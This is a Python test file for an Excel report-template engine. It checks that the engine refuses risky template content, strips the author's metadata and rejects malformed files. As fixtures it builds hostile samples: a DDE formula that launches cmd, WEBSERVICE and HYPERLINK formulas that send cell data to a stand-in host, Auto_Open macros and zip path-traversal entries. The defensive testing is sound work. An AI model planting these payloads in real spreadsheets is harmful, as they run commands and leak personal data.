"""What a template may not carry to parents, what is taken out of reports, and what is no template."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.fuzz.template_mutants import run
from tests.reports.engine.making import make, parts, rezip
from workbook.model import Audience, CannotDo
from workbook.reports.content.names import tree
from workbook.reports.engine.formula_matter import WORDS
from workbook.reports.engine.tokens import Vocabulary
from workbook.reports.output.template_files import find, names, open_template, what_it_asks

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def page(book: Any, sheet: Any) -> None:
    sheet.write("A1", "{{learner.first_name}}")
    book.set_properties({"author": "Pat Smith", "company": "The College", "manager": "Kim", "title": "Report"})
    sheet.write_comment("A1", "A note", {"author": "Pat Smith"})


def saved(folder: Path, content: bytes, name: str = "t.xlsx") -> Path:
    (folder / name).write_bytes(content)
    return folder / name


def with_formula(formula: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        sheet.write_formula("B7", f"={formula}")

    return make(build)


def with_link(
    kind: str, target: str, source: str = "xl/workbook.xml", *, external: bool = False, data: str = ""
) -> bytes:
    content = parts(make(page))
    folder, _, name = source.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rId77" Type="{OFFICE}{kind}" Target="{target}"{mode}/></Relationships>'
    content[rels] = content[rels].replace(b"</Relationships>", link.encode())
    if data:
        content[f"xl/{target}"] = data.encode()
    return rezip(content)


def with_xml(part: str, before: str, new: str, of: bytes | None = None) -> bytes:
    """A template with a piece of XML put in before another in one of its parts."""
    content = parts(of or make(page))
    assert before.encode() in content[part], content[part]
    content[part] = content[part].replace(before.encode(), new.encode() + before.encode(), 1)
    return rezip(content)


def with_name(attributes: str) -> bytes:
    name = f"<definedNames><definedName {attributes}>1</definedName></definedNames>"
    return with_xml("xl/workbook.xml", "<calcPr", name)


def drawn(attributes: str, inside: str = "") -> bytes:
    """A template with a text box, and with more in its drawing."""

    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        sheet.insert_textbox("D4", "Hello")

    whole = make(build)
    content = parts(whole)
    part = "xl/drawings/drawing1.xml"
    content[part] = (
        content[part]
        .replace(b'macro="" textlink=""', attributes.encode(), 1)
        .replace(b"<xdr:sp ", inside.encode() + b"<xdr:sp ", 1)
    )
    return rezip(content)


def charted(formula: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=Report!$B$1:$B$3"})
        sheet.insert_chart("D4", chart)

    content = parts(make(build))
    part = "xl/charts/chart1.xml"
    content[part] = content[part].replace(b"Report!$B$1:$B$3", formula.encode())
    return rezip(content)


def tabled(formula: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        sheet.add_table("A9:B11", {"columns": [{"header": "One"}, {"header": "Two", "formula": formula}]})

    content = parts(make(build))
    content[SHEET] = re.sub(rb"<f>[^<]*</f>", b"", content[SHEET])  # in the table alone, as Excel keeps it for new rows
    return rezip(content)


def hidden(how: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        other = book.add_worksheet("Helper")
        (other.very_hidden if how == "very" else other.hide)()

    return make(build)


BOOK = '<externalLink xmlns="x"><externalBook/></externalLink>'
SHEET = "xl/worksheets/sheet1.xml"
CASES = {
    "web": [with_formula('_xlfn.WEBSERVICE("http://x.test/?"&A1)'), with_formula('_xlfn.IMAGE("http://x.test")'),
            with_formula('RTD("a",,"b")'), with_formula("_xlfn.TRANSLATE(A1)"),
            tabled('_xlfn.WEBSERVICE("http://x.test")'),
            with_formula("""'a"b'!A1&_xlfn.WEBSERVICE("http://x.test")&'c"d'!A1"""),
            with_formula("MAP(A1,_xleta.WEBSERVICE)"),
            with_xml(SHEET, "</worksheet>", '<extLst><ext><x:f xmlns:x="y">WEBSERVICE("http://x.test")</x:f></ext></extLst>')],
    "hyperlink": [with_formula('HYPERLINK("http://x.test/?"&A1)'), with_formula("hyperlink(A1)"),
                  with_link("hyperlink", "http://x.test/?n={{learner.name}}", SHEET, external=True),
                  with_link("hyperlink", "file:///C:/x.exe", SHEET, external=True),
                  with_xml("xl/drawings/vmlDrawing1.vml", "<v:fill", '<a href="http://x.test"/>')],
    "workbooks": [with_formula("[1]Sheet!A1"), with_formula("SUM('[1]My sheet'!A:A)"),
                  with_link("externalLink", "externalLinks/e.xml", data=BOOK), charted("[1]Sheet!$A$1"),
                  with_formula("[1]!Total"), with_formula(r"'C:\x\book.xlsx'!Total"),
                  with_xml("xl/workbook.xml", "<calcPr",
                           "<externalReferences><externalReference/></externalReferences>"),
                  drawn('macro="" textlink="[1]Sheet!$A$1"')],
    "dde": [with_formula("cmd|'/c calc'!A0"), with_formula("'cmd'|'x'!'A0'"),
            with_link("externalLink", "externalLinks/e.xml", data=BOOK.replace("externalBook", "ddeLink"))],
    "ole": [with_link("oleObject", "embeddings/o.bin", SHEET, data="x"),
            with_link("package", "embeddings/o.docx", SHEET),
            with_link("externalLink", "externalLinks/e.xml", data=BOOK.replace("externalBook", "oleLink"))],
    "activex": [with_link("control", "activeX/activeX1.xml", SHEET, data="<x/>")],
    "queries": [with_link("connections", "connections.xml", data="<x/>"), with_link("queryTable", "q.xml", SHEET)],
    "macros": [with_link("vbaProject", "vbaProject.bin", data="x"), with_link("xlMacrosheet", "macrosheets/s.xml"),
               with_formula('CALL("a","b")'), with_formula('REGISTER.ID("a","b")'), drawn('macro="[0]!Go"'),
               with_formula("GET.WORKBOOK(1)"),
               with_xml("xl/drawings/vmlDrawing1.vml", "</x:ClientData>", "<x:FmlaMacro>[0]!Go</x:FmlaMacro>"),
               with_name('name="Auto_Open" xlm="1"')],
    "custom-xml": [with_link("customXml", "../customXml/item1.xml")],
    "fonts": [with_link("font", "fonts/f.odttf", data="x")],
    "pictures": [with_link("image", "http://x.test/p.png", SHEET, external=True),
                 with_xml("xl/drawings/vmlDrawing1.vml", "<v:fill", '<v:imagedata src="//x.test/p.png"/>')],
    "add-ins": [with_link("webextension", "webextensions/w.xml"), with_formula("_xll.SOMETHING(A1)")],
    "pivots": [with_link("pivotCacheDefinition", "pivotCache/p.xml", data="<x/>"),
               with_link("slicer", "slicers/s.xml", SHEET)],
    "hidden": [hidden("plainly"), hidden("very"),
               with_name('name="x" hidden="1"')],
    "other-parts": [with_link("somethingNew", "new/part.xml", data="<x/>")],
    "revisions": [with_link("revisionHeaders", "revisions/r.xml")],
    "other-links": [with_link("attachedTemplate", "http://x.test/t.xltx", external=True),
                    with_xml(SHEET, "<legacyDrawing", '<webPublishItems><webPublishItem/></webPublishItems>'),
                    with_xml("xl/workbook.xml", "<calcPr",
                             '<smartTagTypes><smartTagType url="http://x.test"/></smartTagTypes>')],
}  # fmt: skip


def test_every_word_has_its_case() -> None:
    assert CASES.keys() == WORDS.keys()


@pytest.mark.parametrize(("word", "content"), [(word, each) for word, found in CASES.items() for each in found])
def test_matter_is_listed_with_its_place_and_refused_for_parents(word: str, content: bytes, tmp_path: Path) -> None:
    path = saved(tmp_path, content)
    _, rows = what_it_asks(path)
    listed = [row for row in rows if row["allow"] == word]
    assert listed and all(row["place"] and f"--allow {word}" in (row["problem"] or "") for row in listed)
    with pytest.raises(CannotDo, match=f"--allow {word}"):
        open_template(path)
    allowed = {word, "macros"} if word == "macros" else {word}
    open_template(path, allow=allowed)
    assert not any(row["problem"] for row in what_it_asks(path, allowed)[1])
    staff = parts(content)
    keywords = b"<cp:keywords>staff</cp:keywords></cp:coreProperties>"
    staff["docProps/core.xml"] = staff["docProps/core.xml"].replace(b"</cp:coreProperties>", keywords)
    open_template(saved(tmp_path, rezip(staff), "staff.xlsx"))


@pytest.mark.parametrize(
    "formula",
    ['HYPERLINK("https://college.test/","Our page")', '"WEBSERVICE(1)"&A1', "Webservice_1+A1", '"a|b!"', "SUM(T[a|b])",
     'HYPERLINK("#Report!A1","up")'],
)  # fmt: skip
def test_harmless_formulas_are_not_held_up(formula: str, tmp_path: Path) -> None:
    open_template(saved(tmp_path, with_formula(formula)))


def test_addresses_that_are_typed_out_or_write_a_mail_are_harmless(tmp_path: Path) -> None:
    for target in ("https://college.test/", "mailto:{{mentor.email}}", "{{mentor.email}}", "%7B%7Bmentor.email%7D%7D"):
        open_template(saved(tmp_path, with_link("hyperlink", target, SHEET, external=True)))


def test_an_unknown_word_is_told(tmp_path: Path) -> None:
    with pytest.raises(CannotDo, match="--allow everything means nothing: the words are web, hyperlink"):
        open_template(saved(tmp_path, make(page)), allow=["everything"])


def test_who_made_the_template_is_in_no_report(tmp_path: Path) -> None:
    content = parts(make(page))
    printer = (
        f'<Relationship Id="rId78" Type="{OFFICE}printerSettings" Target="../printerSettings/printerSettings1.bin"/>'
    )
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    content[rels] = content[rels].replace(b"</Relationships>", printer.encode() + b"</Relationships>")
    content["xl/printerSettings/printerSettings1.bin"] = rb"\\college-server\Pat Smith"
    xmlns = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    sheet = content[SHEET].replace(b"<legacyDrawing", b'<pageSetup r:id="rId78" orientation="portrait"/><legacyDrawing')
    assert xmlns in sheet and b"pageSetup" in sheet
    content[SHEET] = sheet
    path = saved(tmp_path, rezip(content))
    places = {row["place"] for row in what_it_asks(path)[1] if row["allow"]}
    assert {"creator", "lastModifiedBy", "Company", "Manager", "xl/printerSettings/printerSettings1.bin"} <= places
    template, _, _ = open_template(path)
    report = parts(template.render({"learner": {"first_name": "Amira"}}))
    assert not any(
        secret in data for data in report.values() for secret in (b"Pat", b"Kim", b"The College", b"college-server")
    )
    assert (
        b"<dc:title>Report</dc:title>" in report["docProps/core.xml"] and b"created" not in report["docProps/core.xml"]
    )
    assert (
        not any("printerSettings" in name for name in report) and b'pageSetup orientation="portrait"' in report[SHEET]
    )


def test_what_tells_of_its_maker_or_of_others_goes_by_whatever_name(tmp_path: Path) -> None:
    """Each stood in every report: a picture of the filled page, left parts, folders, scenarios, a note's beginning."""
    content = parts(make(page))
    root, note = content["_rels/.rels"], content["xl/comments1.xml"]
    links = (
        ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg"),
        ("http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "sig/origin.sigs"),
        (f"{OFFICE}custom-properties", "docProps/custom.xml"),
    )
    more = "".join(f'<Relationship Id="q{n}" Type="{kind}" Target="{part}"/>' for n, (kind, part) in enumerate(links))
    content["_rels/.rels"] = root.replace(b"</Relationships>", more.encode() + b"</Relationships>")
    content["docProps/thumbnail.jpeg"] = content["sig/origin.sigs"] = content["xl/old/sheet9.xml"] = b"Secret"
    content["docProps/custom.xml"] = (
        b'<Properties xmlns="c" xmlns:vt="v"><property name="_AuthorEmail"><vt:lpwstr>Secret</vt:lpwstr></property>'
        b'<property name="Of"><vt:lpwstr>{{learner.first_name}}</vt:lpwstr></property></Properties>'
    )
    content["xl/workbook.xml"] = content["xl/workbook.xml"].replace(
        b"<workbookPr", b'<fileSharing userName="Secret"/><a:absPath xmlns:a="a" url="C:/Secret/"/><workbookPr'
    )
    content[SHEET] = content[SHEET].replace(
        b"<legacyDrawing", b'<scenarios><scenario user="Secret"/></scenarios><legacyDrawing'
    )
    content["xl/notes/n.xml"] = note.replace(b"Pat Smith", b"Secret").replace(b"A note", b"Secret:\nA note")
    del content["xl/comments1.xml"]
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    content[rels] = content[rels].replace(b"../comments1.xml", b"../notes/n.xml")
    template, _, _ = open_template(saved(tmp_path, rezip(content)))
    report = parts(template.render({"learner": {"first_name": "Amira"}}))
    assert [name for name, data in report.items() if b"Secret" in data] == []
    assert b"A note" in report["xl/notes/n.xml"] and b"Amira" in report["docProps/custom.xml"]
    places = {row["place"] for row in what_it_asks(tmp_path / "t.xlsx")[1]}
    assert {"docProps/thumbnail.jpeg", "sig/origin.sigs", "xl/old/sheet9.xml", "_AuthorEmail"} <= places


def test_a_tracker_and_a_workbook_without_names_are_no_templates(tmp_path: Path) -> None:
    def tracker(book: Any, sheet: Any) -> None:
        sheet.write("F1", "{{learner.first_name}}")
        sheet.add_table("A4:B6", {"name": "Registers", "columns": [{"header": "Learner ID"}, {"header": "Week"}]})

    def targets(book: Any, sheet: Any) -> None:  # a template may well have a table of this name
        page(book, sheet)
        sheet.add_table("A4:B6", {"name": "Targets", "columns": [{"header": "Target"}, {"header": "Due"}]})

    for opener in (open_template, what_it_asks):
        with pytest.raises(CannotDo, match=r"is a tracker, not a template.*Report holds the table Registers"):
            opener(saved(tmp_path, make(tracker)))
        with pytest.raises(CannotDo, match="asks for nothing"):
            opener(saved(tmp_path, make(lambda book, sheet: sheet.write("A1", "Hello"))))
        opener(saved(tmp_path, make(targets)))


@pytest.mark.parametrize("name", names())
def test_our_own_templates_carry_nothing(name: str) -> None:
    _, rows = what_it_asks(find(name))
    assert not any(row["problem"] or row["allow"] for row in rows)


@pytest.mark.parametrize("outside", ["../../evil.txt", "/abs.txt", "xl\\..\\..\\evil.txt"])
def test_parts_that_lie_outside_are_refused_by_both(outside: str, tmp_path: Path) -> None:
    path = saved(tmp_path, make(page))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(outside, "x")
    for opener in (open_template, what_it_asks):
        with pytest.raises(CannotDo, match="outside it"):
            opener(path)


@pytest.mark.parametrize(
    ("part", "old", "new", "sentence"),
    [
        (SHEET, rb'<row r="1"', b'<row r="x"', "row 'x' is no row"),
        (SHEET, rb'<row r="1"', b'<row r="-1"', "row '-1' is no row"),
        (SHEET, rb"<v>0</v>", b"<v>-1</v>", "cell A1 lacks its text"),
        (SHEET, rb"<v>0</v>", b"<v>7</v>", "cell A1 lacks its text"),
        ("xl/styles.xml", rb"<fonts ", b"<", r"xl/styles.xml"),
        ("xl/styles.xml", rb'numFmtId="0"', b'numFmtId="x"', "styles"),
        ("docProps/core.xml", rb"</cp:coreProperties>", b"", "docProps/core.xml"),
        ("[Content_Types].xml", rb"</Types>", b"", r"\[Content_Types\].xml"),
        ("xl/_rels/workbook.xml.rels", rb"</Relationships>", b"", "xl/_rels/workbook.xml.rels"),
    ],
)
def test_what_cannot_be_read_is_named_by_both(part: str, old: bytes, new: bytes, sentence: str, tmp_path: Path) -> None:
    content = parts(make(page))
    assert re.search(old, content[part])
    content[part] = re.sub(old, new, content[part])
    path = saved(tmp_path, rezip(content))
    said = []
    for opener in (open_template, what_it_asks):
        with pytest.raises(CannotDo, match=sentence) as refusal:
            opener(path)
        said.append(str(refusal.value))
    assert said[0] == said[1]


@pytest.mark.parametrize(
    ("old", "new"),
    [(rb't="s"><v>1</v>', b't="d"><v>2026-01-01</v>'), (rb'<c r="B1"', b'<c r="B1" s="999"'),
     (rb'<c r="B1"', b'<c r="B1" s="x"'), (rb't="s"><v>1</v>', b't="zz"><v>1</v>')],
)  # fmt: skip
def test_odd_cells_that_are_not_filled_are_carried_as_they_are(old: bytes, new: bytes, tmp_path: Path) -> None:
    content = parts(make(lambda book, sheet: sheet.write_row("A1", ["{{learner.first_name}}", "plain"])))
    content[SHEET] = re.sub(old, new, content[SHEET])
    assert new in content[SHEET]
    path = saved(tmp_path, rezip(content))
    what_it_asks(path)
    template, _, _ = open_template(path)
    assert new.partition(b' s="')[0] in parts(template.render(Vocabulary(tree(Audience.MENTOR)).example(1)))[SHEET]


@pytest.mark.slow
def test_mutants_never_stumble_and_both_commands_agree() -> None:
    outcomes = run(seed=2026, count=40)
    assert set(outcomes) <= {"made", "refused"} and outcomes["made"] >= 10
